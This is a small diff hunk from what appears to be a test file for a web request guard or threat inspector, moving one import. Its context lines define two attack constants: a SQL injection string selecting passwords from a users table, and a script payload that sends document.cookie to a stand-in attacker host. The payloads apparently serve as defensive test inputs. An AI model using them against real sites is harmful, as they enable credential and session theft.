@@ -18,7 +18,8 @@ from steersman.contract.freetext import FREE_TEXT
 from steersman.contract.service import Route
 from steersman.engine.threats import inspect_pieces
 from steersman.model.errors import Forbidden, Throttled
-from steersman.runtime.http.guard import REFUSED, Guard, Measure, Measures, Silent
+from steersman.runtime.http.guard import REFUSED, Guard, Measure, Measures
+from steersman.runtime.http.telling import Silent
 
 ATTACK = "1' UNION SELECT name, password FROM users --"
 SCRIPT = "<script>fetch('//evil.example/'+document.cookie)</script>"
